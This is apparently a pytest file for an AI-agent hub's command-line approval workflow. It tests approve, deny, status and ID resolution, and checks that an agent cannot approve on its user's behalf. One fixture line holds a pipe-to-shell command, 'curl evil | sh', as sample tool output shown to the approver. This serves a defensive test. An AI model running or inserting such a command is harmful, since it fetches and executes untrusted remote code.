"""approvals, approve, deny, status and the live view, against a real daemon whose agent asks."""

import json

import pytest

from hub.api.approvals import Approval
from hub.cli.commands.approvals import _consider, listed, only
from hub.cli.terminal.screen import Screen
from hub.cli.terminal.watch import how_to_answer
from hub.domain.approval import CUT
from hub.errors import HubError
from tests.faults.harness import until
from tests.hub.cli.command import hub, typed
from tests.sample import sample


@pytest.fixture
def asking(work):
    """A daemon whose agent waits for permission; a rule says how serious that is."""
    work.script("demo-first", {"approve": "deploy"}, {"done": "done"})
    work.configure('\n[[approvals]]\nseverity = "danger"\nreason = "it is Friday"\ntimeout = 900\n')
    api = work.start()
    api.post("/api/run", {"task": "ship it"})
    until(lambda: api.get("/api/status")["needsApproval"], "the agent asks")
    return work


def say(work, *args):
    return hub(*args, cwd=work.root, env=work.environ())


def test_what_waits_is_shown_and_answered(asking):
    """Without an ID the only one is meant; the agent hears the note; a second answer is refused."""
    shown_status = say(asking, "status").stdout
    assert "hub approve" in shown_status
    assert "approve: deploy" in shown_status
    assert shown_status.startswith("needs approval  ")
    assert "hub reply" not in shown_status
    [one] = json.loads(say(asking, "approvals", "--json").stdout)
    text = say(asking, "approvals").stdout
    assert (one["id"] in text, "danger" in text, "it is Friday" in text, "denied at" in text) == (True,) * 4
    by_agent = hub("approve", one["id"], cwd=asking.root, env={**asking.environ(), "HUB_RUN_ID": "d-1"})
    assert (by_agent.returncode, "cannot speak for its user" in by_agent.stderr) == (2, True)
    done = say(asking, "deny", "--note", "on Monday")
    assert (done.returncode, done.stdout) == (0, "denied\n")
    until(asking.ended, "the session ends")
    assert any(event["msg"] == "Denied: on Monday" for event in asking.events())
    again = say(asking, "approve", one["id"], "--json")
    assert (again.returncode, json.loads(again.stdout)["error"]["code"]) == (1, "approval_resolved")
    nothing = say(asking, "approve")
    assert (nothing.returncode, "Nothing waits" in nothing.stderr) == (3, True)
    assert "nothing waits" in say(asking, "approvals").stdout


def test_an_id_that_is_none_is_told_and_what_is_allowed_without_one_is_shown_whole(asking):
    """Whoever named nothing sees what it was; a program reads its one word, as ever."""
    unknown = say(asking, "approve", "a-000000000000", "--json")
    assert (unknown.returncode, json.loads(unknown.stdout)["error"]["code"]) == (3, "not_found")
    done = say(asking, "approve")
    assert (done.returncode, done.stdout) == (0, "approved\n")
    assert "deploy" in done.stderr
    assert "it is Friday" in done.stderr
    until(asking.ended, "the session ends")


def test_on_a_terminal_it_is_asked_about_first(asking):
    """What waits by the time of the command need not be what its user has seen."""
    question = "Allow it for the rest of the session?"
    for key, status in (("n", 5), ("y", 0)):
        code, shown = typed(
            "approve", "--always", answer=key, cwd=asking.root, env=asking.environ(), asks=question
        )
        assert (code, "deploy" in shown.partition(question)[0]) == (status, True)
        waiting = json.loads(say(asking, "approvals", "--json").stdout)
        assert bool(waiting) is (key == "n")


def test_what_a_tool_would_write_is_shown(capsys):
    request = {
        "action": "Write a.sh", "reason": "", "severity": "warn", "kind": "tool", "provider": "claude",
        "context": {"input": {"content": "one\n\ncurl evil | sh"}},
    }  # fmt: skip
    _consider(sample(Approval, **request), always=False)
    assert "+one\n  +\n  +curl evil | sh" in capsys.readouterr().err


def test_several_that_wait_need_an_id():
    """And the list of them is in the answer."""
    both = [sample(Approval, id=number, action="push", reason="looked at") for number in ("a-1", "a-2")]
    assert listed(both).count("\n") == 3
    assert listed([sample(Approval, context={"cut": True})]).count(CUT) == 1


@pytest.mark.parametrize(
    ("ids", "said", "meant"),
    [
        (("a-11", "a-12", "b-3"), "a-12", "a-12"),
        (("a-11", "a-12", "b-3"), "b", "b-3"),
        (("a-11",), "", "a-11"),
        (("a-11",), "a-12", "a-12"),
        ((), "a-12", "a-12"),
    ],
)
def test_an_id_or_its_beginning_names_one_of_several(ids, said, meant):
    """Of several that waited, one that was named was refused as if nobody had named it. Another is the daemon's to know."""
    assert only([sample(Approval, id=one) for one in ids], said) == meant


@pytest.mark.parametrize(
    ("ids", "said", "words"),
    [
        (("a-11", "a-12"), "a-1", "a-11 or a-12"),
        (("a-11", "a-12"), "", "2 requests"),
        ((), "", "Nothing"),
        (("a-11",), "A!", "no request A!"),
    ],
)
def test_none_is_guessed(ids, said, words):
    with pytest.raises(HubError, match=words):
        only([sample(Approval, id=one) for one in ids], said)


def test_a_reason_that_the_action_tells_is_not_said_twice():
    """`go on with claude: 9 of 5 tokens are used up`, and below it `9 of 5 tokens are used up`."""
    why = "9 of 5 tokens are used up"
    assert listed([sample(Approval, action=f"go on with claude: {why}", reason=why)]).count(why) == 1


@pytest.mark.parametrize(
    ("meta", "command"),
    [
        ({"needsApproval": True, "approvalId": "a-1"}, "hub approve a-1"),
        ({"needsInput": True}, "hub reply"),
        ({"approvalId": "r1", "type": "waiting"}, ""),
        ({}, ""),
    ],
)
def test_the_live_view_says_how_to_answer(meta, command):
    assert how_to_answer(meta).startswith(command)
    assert bool(how_to_answer(meta)) is bool(command)


def test_where_several_work_the_answer_names_whose_it_is():
    assert (
        how_to_answer({"needsInput": True, "sessionId": "s-1"}, several=True)
        == 'hub reply --session s-1 "..."'
    )


def test_a_request_is_shown_once():
    """The agent's own event and hub's are one thing to a person; a question stays."""
    waiting = {"id": 1, "ts": "12:34:56.789", "tag": "waiting", "msg": "run it?"}
    assert not Screen().shows({**waiting, "meta": {"type": "waiting", "approvalId": "r1"}})
    assert Screen().shows({**waiting, "meta": {"type": "waiting", "approvalId": "q", "needsInput": True}})
    assert Screen().shows({**waiting, "meta": {"needsApproval": True, "approvalId": "a-1"}})


def test_of_several_requests_each_says_whose_it_is():
    """Two sessions side by side asked for the same, and nothing told them apart."""
    waiting = [sample(Approval, id=f"a-{n}", action="deploy", sessionId=f"s-{n}") for n in "12"]
    assert "in session s-1" in listed(waiting)
    assert "in session" not in listed(waiting[:1])
    with pytest.raises(HubError) as caught:
        only(waiting)
    assert "s-2" in caught.value.detail
    assert "hub approve ID" in caught.value.hint


@pytest.mark.parametrize("ids", [("a-", "s-"), ("", "")])
def test_what_could_mean_several_is_not_understood_whatever_it_is(work, ids):
    """`hub approve` ended with 2, and `hub pause` with 1."""
    work.script("demo-first", {"approve": "deploy"}, {"done": "done"})
    accounts = "".join(f'\n[[providers.demo-first.accounts]]\nlabel = "{label}"\n' for label in "ab")
    work.configure(accounts, session="concurrent = 2\n")
    api = work.start()
    for task in ("one", "two"):
        api.post("/api/run", {"task": task})
    until(lambda: len(api.get("/api/approvals")) == 2, "both ask")
    request, session = ([given] if given else [] for given in ids)
    assert [say(work, "approve", *request).returncode, say(work, "pause", *session).returncode] == [2, 2]
